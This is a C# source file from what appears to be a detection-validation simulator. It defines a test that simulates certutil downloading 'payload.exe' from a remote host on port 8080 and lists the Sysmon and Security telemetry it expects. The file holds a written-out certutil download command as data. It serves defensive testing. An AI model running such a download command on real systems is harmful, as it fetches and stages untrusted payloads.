using System.Net;
using DetectionKit.Simulator.Adversaries;
using DetectionKit.Simulator.Scenarios;

namespace DetectionKit.Simulator.Validation;

/// <summary>Test 2: certutil downloads a payload.</summary>
/// <param name="target">The address that it downloads from; null for <see cref="ValidationTest.DocumentationAddress"/>.</param>
public sealed class CertutilDownload(IPAddress? target = null) : ValidationTest(target)
{
    private const int Port = 8080;

    /// <inheritdoc/>
    public override int Number => 2;

    /// <inheritdoc/>
    public override string Name => "certutil-download";

    /// <inheritdoc/>
    public override string Title => "certutil -urlcache -f downloads a file, port 8080";

    /// <inheritdoc/>
    public override string Defaults => "one connection, port 8080, and the file, where anything answers";

    /// <inheritdoc/>
    public override IReadOnlyList<ExpectedTelemetry> Telemetry => [new("sysmon", "1", 1), new("sysmon", "3", 1), new("sysmon", "11", 1, MayBeAbsent: true), new("security", "4688", 1)];

    /// <summary>Whether anything answers at the target, so that a file is written.</summary>
    public bool Succeeds { get; init; } = true;

    /// <inheritdoc/>
    public override IEnumerable<SimulatedEvent> Act(ActorContext context, Campaign campaign, DateTimeOffset begin)
    {
        ArgumentNullException.ThrowIfNull(context);
        var file = $@"C:\Users\{context.Host.Owner.Name}\AppData\Local\Temp\df00tech-vps-test.exe";
        var process = context.LaunchWatched(begin, context.Host.Owner, @"\Device\HarddiskVolume3\Windows\System32\certutil.exe", $"certutil.exe -urlcache -split -f http://{Target}:{Port}/payload.exe {file}", "cmd.exe");
        yield return context.Report(process);
        yield return context.Connect(begin + TimeSpan.FromMilliseconds(250), process, Target, Port, isAnswered: Succeeds);
        if (Succeeds) yield return context.CreateFile(begin + TimeSpan.FromMilliseconds(900), process, file);
    }
}
